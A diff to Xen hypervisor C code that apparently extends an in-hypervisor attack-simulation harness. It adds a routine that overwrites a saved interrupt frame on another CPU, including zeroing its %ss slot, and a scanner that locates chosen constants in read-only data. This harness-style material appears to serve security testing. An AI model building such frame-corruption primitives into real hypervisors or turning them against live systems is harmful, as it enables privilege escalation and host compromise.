@@ -229,6 +229,33 @@ static void cf_check attack_wait_in_irq(void *unused)
     attack_victim(true, 0);
 }
 
+/*
+ * The attacker writes while the other CPU is in an interrupt. The two must not
+ * be long at it, as other things wait for that CPU with interrupts off: what
+ * two hypercalls would do is done by one.
+ */
+static void attack_interrupt(bool frame, unsigned long value)
+{
+    unsigned long *at;
+
+    attack_go = attack_waiting = 0;
+    on_selected_cpus(cpumask_of(!smp_processor_id()), attack_wait_in_irq, NULL,
+                     0);
+    while ( !attack_waiting )
+        cpu_relax();
+    at = attack_slot;
+    if ( frame )
+    {
+        while ( at[1] != __HYPERVISOR_CS )
+            at++;
+        at[4] = 0; /* %ss */
+    }
+    *(volatile unsigned long *)at = value;
+    smp_mb();
+    attack_go = 1;
+    mdelay(10);
+}
+
 /* ---- mappings that Xen makes itself, from what the attacker has changed ---- */
 
 static unsigned long attack_map_checked(void)
@@ -375,9 +402,9 @@ static unsigned long attack_cause(unsigned long event, unsigned long b)
         attack_landing();
         break;
 
-    case CAUSE_IRQ_WAIT:
-        on_selected_cpus(cpumask_of(!smp_processor_id()), attack_wait_in_irq,
-                         NULL, 0);
+    case CAUSE_IRQ_RETURN:
+    case CAUSE_IRQ_FRAME:
+        attack_interrupt(event == CAUSE_IRQ_FRAME, b);
         break;
 
     case CAUSE_ALLOC:
@@ -426,6 +453,17 @@ static unsigned long attack_cause(unsigned long event, unsigned long b)
     return 0;
 }
 
+static unsigned long attack_constant(unsigned long value)
+{
+    const unsigned long *at = (const void *)ROUNDUP((unsigned long)_srodata, 8);
+
+    for ( ; at < (const unsigned long *)_erodata; at++ )
+        if ( *at == value )
+            return (unsigned long)at;
+
+    return 0;
+}
+
 static unsigned long attack_fact(unsigned long fact, unsigned long b)
 {
     switch ( fact )
@@ -462,6 +500,7 @@ static unsigned long attack_fact(unsigned long fact, unsigned long b)
     case FACT_NESTED_ROOT:
         return pagetable_get_paddr(
             p2m_get_pagetable(p2m_get_hostp2m(current->domain)));
+    case FACT_CONSTANT: return attack_constant(b);
     case FACT_IST_DEBUG:
         return offsetof(struct tss_page, tss.ist[IST_DB - 1]);
     }
